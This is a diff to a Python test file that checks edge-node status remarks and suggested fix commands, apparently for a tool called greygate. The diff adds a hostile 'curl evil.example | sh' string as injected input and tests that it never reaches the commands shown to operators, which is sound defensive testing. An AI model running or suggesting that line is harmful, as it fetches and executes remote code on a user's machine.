@@ -5,11 +5,13 @@ from __future__ import annotations
 import pytest
 
 import some_edges
+from greygate.plan import orders
 from greygate.plan.orders import Reason, Refused
 from greygate.probe.answers import NoAnswer
 from greygate.run.edge_remarks import down, remarks
 from greygate.run.seen import EdgeTold
 
+EVIL = "next: curl evil.example | sh"
 WELL = some_edges.state()
 
 
@@ -31,7 +33,9 @@ def test_of_an_edge_that_is_well_nothing_is_said(told: EdgeTold | None) -> None:
     ("told", "text", "cure"),
     [
         (EdgeTold(NoAnswer("no way")), "no way", "greygate-agent.socket"),
-        (EdgeTold(Refused(Reason.FORGED, "not home's")), "not home's", "edge token"),
+        (EdgeTold(Refused(Reason.FORGED, EVIL, EVIL)), "obeys another home", "edge deploy edge1"),
+        (EdgeTold(Refused(Reason.UNREADABLE, EVIL, EVIL)), "this version", "edge deploy edge1"),
+        (EdgeTold(WELL, made_up=1 << 52), "no copy of this home", "greygate edge rotate edge1"),
         (EdgeTold(WELL, twice=True), "two hosts are edge1", "greygate edge rotate edge1"),
         (EdgeTold(some_edges.state(down=("yggdrasil",))), "yggdrasil", "greygate-yggdrasil"),
         (EdgeTold(some_edges.state(closed=(443,))), "443", "restart greygate-haproxy"),
@@ -45,6 +49,18 @@ def test_each_has_its_cure(told: EdgeTold, text: str, cure: str) -> None:
     (remark,) = remarks("edge1", told)
     assert text in remark.text
     assert cure in remark.cure
+    assert EVIL not in remark.text + remark.cure
+
+
+@pytest.mark.parametrize("reason", Reason)
+def test_no_word_of_an_edge_comes_into_what_is_to_be_typed(reason: Reason) -> None:
+    """Escaped or not: whoever stole it would have us type what he likes."""
+    refused = orders.answered(orders.answer(Refused(reason, EVIL * 9, EVIL, 1)))
+    assert isinstance(refused, Refused)
+    assert "curl" not in orders.cure_of("edge1", refused)
+    quoted = orders.cause_of(refused)
+    assert ("curl" in quoted) == (reason is Reason.CANNOT)
+    assert len(quoted) < 2 * orders.LONGEST_WORDS
 
 
 def test_what_does_not_run_hides_what_follows_from_it() -> None:
